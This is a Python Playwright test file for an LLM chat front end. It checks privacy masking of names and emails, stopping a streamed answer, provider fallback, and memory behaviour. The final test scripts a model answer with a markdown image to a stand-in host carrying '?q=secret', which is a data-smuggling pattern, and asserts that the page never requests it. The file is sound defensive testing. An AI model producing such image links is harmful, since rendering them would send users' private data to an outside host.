# SPDX-License-Identifier: Apache-2.0
"""What the screen shows when an answer is stopped, fails, or would lead elsewhere."""

import time
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser

from tests.browser.tab import ANSWER, open_tab
from tests.running import Provider, Running, make_account, providing, running

pytestmark = [pytest.mark.browser, pytest.mark.timeout(180)]

LONG = "One sentence comes after the other here. " * 30
FALLBACK = "The language model could not be reached, so the built-in assistant answered."


@pytest.fixture(scope="module")
def provider() -> Iterator[Provider]:
    """A provider that each test scripts."""
    with providing() as provider:
        yield provider


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, provider: Provider) -> Iterator[Running]:
    """One server for this file, that asks the provider first; it is past its start."""
    data = tmp_path_factory.mktemp("answers") / "data"
    account = make_account(data, "ana", "Ana Sousa")
    with running(data, provider.settings) as server:
        server.say(account, "Hello.")
        yield server


@pytest.mark.parametrize(("width", "dark"), [(1200, False), (400, True)])
def test_what_the_model_did_not_see_is_shown_to_its_person(
    server: Running, provider: Provider, chromium: Browser, width: int, dark: bool
) -> None:
    """Each own value is named where the pointer or the keyboard is; an invented one is a neutral word."""
    provider.script(
        {"kind": "ok", "text": "Dear <PERSON_1>,\n\nI wrote to **<EMAIL_ADDRESS_1>**, and PERSON_9 was there."}
    )
    with open_tab(chromium, server.url, width=width, dark=dark, language="de-DE") as tab:
        tab.sign_in("ana")
        assert tab.say("Hallo, hier ist ana. Schreib an ana@kittiwake.example bitte!") == (
            "Dear Ana, I wrote to ana@kittiwake.example, and [unbekannt] was there."
        )
        tab.page.locator(ANSWER).last.hover()
        spots, tip = tab.page.get_by_test_id("own-value"), tab.page.get_by_test_id("own-tip")
        spots.nth(1).wait_for()
        name, address = spots.nth(0), spots.nth(1)
        assert address.get_attribute("aria-label") == "ana@kittiwake.example: dem Modell verborgen (E-Mail-Adressen)"
        box = address.bounding_box()
        assert box
        tab.page.mouse.move(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
        assert tip.inner_text() == "Das hat das Modell nicht gesehen; es war verborgen (E-Mail-Adressen)."
        tab.shoot(f"own-{width}-{'dark' if dark else 'light'}")
        tab.page.mouse.move(5, 400)
        tip.wait_for(state="detached")
        name.focus()
        assert "(Namen)" in tip.inner_text()
        tab.page.keyboard.press("Escape")
        tip.wait_for(state="detached")
        with tab.why() as panel:
            assert panel.get_by_test_id("why-own-value").all_inner_texts() == [
                "Ana (Namen)", "ana@kittiwake.example (E-Mail-Adressen)"
            ]  # fmt: skip
            tab.shoot(f"own-why-{width}-{'dark' if dark else 'light'}")
        assert tab.hosts == {urlsplit(server.url).netloc}
        assert tab.violations == []


def test_stop_closes_the_upstream_and_keeps_what_was_said(
    server: Running, provider: Provider, chromium: Browser
) -> None:
    """The provider loses its client at once, and the partial answer stands there after a reload too."""
    provider.script({"kind": "drip", "text": LONG, "interval_s": 0.1})
    before = provider.disconnects()
    with open_tab(chromium, server.url) as tab:
        tab.sign_in("ana")
        tab.send("Tell me a long story.")
        tab.page.locator(ANSWER).get_by_text("after the other").wait_for()
        tab.page.click("#stop-button")
        tab.settle()
        assert _reached(provider, before + 1)
        tab.page.get_by_text("Stopped at your request").wait_for()
        assert tab.notices == ["Stopped at your request. What was said so far is kept."]
        partial = tab.answers[-1]
        assert LONG.startswith(partial)
        tab.shoot("stopped")
        tab.page.reload()
        tab.page.wait_for_selector("[data-testid=why-button]")
        assert tab.answers == [partial]


def _reached(provider: Provider, count: int) -> bool:
    ends = time.monotonic() + 5
    while provider.disconnects() < count and time.monotonic() < ends:
        time.sleep(0.05)
    return provider.disconnects() == count


def test_nothing_is_learned_from_a_longer_text_that_was_pasted(
    server: Running, provider: Provider, chromium: Browser
) -> None:
    """It is answered like any other; what is typed afterwards is learned, and the address is as it was."""
    with open_tab(chromium, server.url) as tab:
        tab.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
        tab.sign_in("ana")
        text = f"I live in Reykjavik. {'The letter goes on about the weather there. ' * 6}"
        tab.page.evaluate("text => navigator.clipboard.writeText(text)", text)
        tab.page.focus("#chat-input")
        tab.page.keyboard.press("Control+V")
        tab.page.wait_for_selector("#chat-submit:enabled")
        tab.page.keyboard.press("Enter")
        tab.page.wait_for_selector("[data-testid=why-button]")
        tab.settle()
        assert "#" not in tab.page.url
        tab.say("I like skating.")
        with tab.memory():
            assert "Likes skating" in tab.facts
            assert "Lives in Reykjavik" not in tab.facts


def test_a_fallback_is_said(server: Running, provider: Provider, chromium: Browser) -> None:
    """A provider's error becomes the built-in assistant's answer and a notice, which stays in the history."""
    provider.script({"kind": "500"})
    with open_tab(chromium, server.url) as tab:
        tab.sign_in("ana")
        assert tab.say("Where do I live?")
        assert tab.notices == [FALLBACK]
        assert "SECRET-PROVIDER-TEXT" not in tab.page.content()
        with tab.why() as panel:
            assert panel.get_by_test_id("why-fallbacks").inner_text() == "openai/test: had a fault on its side"
            tab.shoot("fallback-why")
        tab.page.reload()
        tab.page.wait_for_selector("[data-testid=why-button]")
        assert tab.notices == [FALLBACK]
        tab.shoot("fallback")


def test_an_answer_that_breaks_off_is_replaced(server: Running, provider: Provider, chromium: Browser) -> None:
    """What a dying model said first is gone from the screen; the next model's answer stands alone."""
    provider.script({"kind": "abort", "text": LONG, "after": 20, "interval_s": 0.02})
    with open_tab(chromium, server.url) as tab:
        tab.sign_in("ana")
        answer = tab.say("Tell me a long story.")
        assert "after the other" not in answer
        assert tab.notices == [FALLBACK]


def test_an_answer_leads_nowhere_else(server: Running, provider: Provider, chromium: Browser) -> None:
    """An image on another host, a way to smuggle words out, is never asked for; a link to it is not shown."""
    told = "Look: ![chart](https://other.example/x.png?q=secret) and [here](https://other.example/)."
    provider.script({"kind": "ok", "text": told})
    with open_tab(chromium, server.url) as tab:
        tab.sign_in("ana")
        tab.say("Show me a chart.")
        tab.page.wait_for_load_state("networkidle")
        assert tab.hosts == {urlsplit(server.url).netloc}
        assert tab.violations == []
        assert "other.example" not in tab.page.content()
